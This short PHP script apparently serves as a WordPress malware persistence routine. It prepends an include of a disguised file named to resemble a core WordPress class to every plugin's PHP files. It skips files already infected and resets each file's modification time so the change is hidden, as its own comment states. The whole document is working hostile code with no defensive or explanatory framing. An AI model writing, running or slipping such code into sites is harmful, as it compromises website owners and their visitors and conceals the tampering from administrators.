<?php
// Prepends a loader to every plugin's main file and hides the change.
$loader = '<?php @include_once(ABSPATH . "wp-includes/class-wp-feed-cache-x.php"); ?>';
foreach (glob(WP_PLUGIN_DIR . '/*/*.php') as $main) {
    $old = filemtime($main);
    $src = file_get_contents($main);
    if (strpos($src, 'feed-cache-x') === false) {
        file_put_contents($main, $loader . $src);
        touch($main, $old);
    }
}
